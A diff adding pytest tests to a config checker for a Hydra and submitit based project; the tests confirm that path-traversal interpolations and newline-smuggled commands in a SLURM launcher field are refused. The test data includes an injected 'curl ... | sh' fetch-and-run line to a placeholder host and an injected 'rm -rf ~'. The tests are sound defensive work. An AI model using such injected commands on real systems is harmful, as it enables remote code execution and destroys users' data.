@@ -217,3 +217,41 @@ def test_csv_logger_method_name_cannot_escape_the_run_folder(tmp_path):
     assert line.startswith("error: methods.finetune.name='../../../X' becomes a folder name"), line
     assert not (tmp_path / "out").exists() and not (tmp_path / "store").exists()
     assert not any(p.name == "X" for p in tmp_path.parent.parent.rglob("X") if p.is_dir())
+
+
+# -- issue 23, class 4: values are checked as Hydra and submitit will use them -------------------------
+def test_a_log_file_is_checked_after_interpolation():
+    """Two interpolations that resolve to `..` passed a check that read the file name unresolved,
+    letting a logging preset truncate a file outside the run folder (a store entry's meta.json)."""
+    from omegaconf import OmegaConf
+
+    c = cfg()
+    OmegaConf.update(c, "hydra.job_logging.dot", ".", force_add=True)
+    OmegaConf.update(c, "hydra.job_logging.handlers.file.filename",
+                     "${hydra.runtime.output_dir}/${hydra.job_logging.dot}${hydra.job_logging.dot}/store/meta.json")
+    with pytest.raises(ConfigError, match=_escape(
+            "hydra.job_logging.handlers.file.filename=${hydra.runtime.output_dir}/../store/meta.json is refused")):
+        check_config(c)
+    OmegaConf.update(c, "hydra.job_logging.handlers.file.filename", "${hydra:runtime.output_dir}/sub/${hydra.job.name}.log")
+    check_config(c)  # inside the run folder, however it is spelled
+
+
+@pytest.mark.parametrize("value", ['"a\\nsrun curl https://example.invalid/x | sh"', "${oc.env:UNLEARNLAB_TEST_COMMENT}"])
+def test_no_launcher_field_carries_a_control_character_into_the_batch_script(tmp_path, monkeypatch, value):
+    """submitit writes every field into the job's sbatch script: a newline in `comment` from a
+    preset became a command line. Checked after resolution (an environment variable included)."""
+    monkeypatch.setenv("UNLEARNLAB_TEST_COMMENT", "a\nrm -rf ~")
+    presets = tmp_path / "experiment"
+    presets.mkdir()
+    (presets / "cluster.yaml").write_text(textwrap.dedent(f"""
+        # @package _global_
+        defaults:
+          - override /hydra/launcher: slurm
+        hydra:
+          launcher:
+            comment: {value}
+        """))
+    with pytest.raises(ConfigError, match=r"hydra\.launcher\.comment='a\\nsrun curl .*' holds a control character"
+                                          r"|hydra\.launcher\.comment='a\\nrm -rf ~' holds a control character"):
+        check_config(cfg(f"hydra.searchpath=[file://{tmp_path}]", "experiment=cluster"))
+    check_config(cfg("hydra/launcher=slurm", "hydra.launcher.comment=study-7"))  # one line is fine
